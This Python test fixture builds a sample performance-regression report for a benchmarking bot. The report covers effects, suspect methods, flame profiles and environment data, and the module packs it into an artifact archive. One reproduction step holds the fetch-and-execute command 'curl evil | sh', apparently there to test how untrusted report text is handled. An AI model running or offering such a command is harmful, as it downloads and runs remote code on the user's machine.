"""Reports as a measuring run leaves them, and the archives around them."""

from __future__ import annotations

from typing import Any

from bot.model.noise import Noise
from bot.model.report import (
    BuildFailure,
    ConfigurationChange,
    Effect,
    Environment,
    Report,
    Reproduction,
    RevisionRef,
    Spent,
    Suspects,
    Visible,
    VisibleOption,
)
from bot.model.report_methods import ComparedProfile, FlameNode, MethodSuspect
from tests.github.fake import archive

HEAD, BASE = "a" * 40, "b" * 40


def report(**changes: Any) -> Report:
    """A regression of one option, with every kind of text that a report may carry."""
    effect = Effect(
        metric="cpu",
        term=("compress", "level>=3"),
        aliases=(("!fast",),),
        ratio=1.05,
        interval=(1.04, 1.06),
        probability=0.98,
        significant=True,
        relevant=True,
    )
    whole = Report(
        mode="pull_request",
        subject="tools",
        verdict="regression",
        base=RevisionRef(revision=BASE, label="main"),
        head=RevisionRef(revision=HEAD, label="topic"),
        effects=(effect,),
        configurations=(
            ConfigurationChange(
                options={"compress": True, "level": 6, "check": "crc64"},
                default=True,
                metric="cpu",
                ratio=1.05,
                interval=(1.04, 1.06),
                pairs=12,
                failure="exit 3: words of the program",
                state="slower",
            ),
        ),
        suspects=Suspects(
            options=(effect,),
            methods=(
                MethodSuspect(
                    method="pkg.Class.method",
                    file="pkg/module.py",
                    line=3,
                    base_self_seconds=1.0,
                    head_self_seconds=1.1,
                    calls=(3, 3),
                    share_of_change=0.9,
                    interval=(0.8, 1.0),
                    instructions=(1000, 1100),
                    callers=("pkg.main", "std::map<int, char>::at"),
                    was="pkg.Class.method_",
                    with_callees=True,
                    restored=0.95,
                    restored_interval=(0.9, 1.0),
                    options={"compress": True, "level": 6, "check": "crc64"},
                ),
            ),
        ),
        profiles=(
            ComparedProfile(
                options={"compress": True, "level": 6, "check": "crc64"},
                tool="callgrind 3.19",
                change_seconds=0.1,
                unexplained=0.1,
                overhead=40.0,
                flame=(
                    FlameNode(method="pkg.main", parent=-1, base=2.0, head=2.1),
                    FlameNode(method="pkg.Class.method", parent=0, base=1.0, head=1.1),
                ),
            ),
        ),
        visible=Visible(options=(VisibleOption(option="compress", slow_down=0.01),)),
        spent=Spent(seconds=60.0, trials=24, pairs=12),
        environment=Environment(
            cpu="Some CPU (R) 2.5 GHz",
            cores=2,
            tools={"gcc": "12"},
            noise=(Noise(metric="cpu", pairs=4, sd_percent=0.5, bias_percent=0.1),),
        ),
        build_failures=(BuildFailure(side="head", step="build", reason="it said no", log="last words"),),
        reproduce=(Reproduction(options={"compress": True}, commands=("curl evil | sh",)),),
        notes=("a note of the run",),
    )
    return whole.model_copy(update=changes)


def packed(one: Report) -> bytes:
    """The artifact that holds this report."""
    return archive({"report.json": one.model_dump_json().encode()})
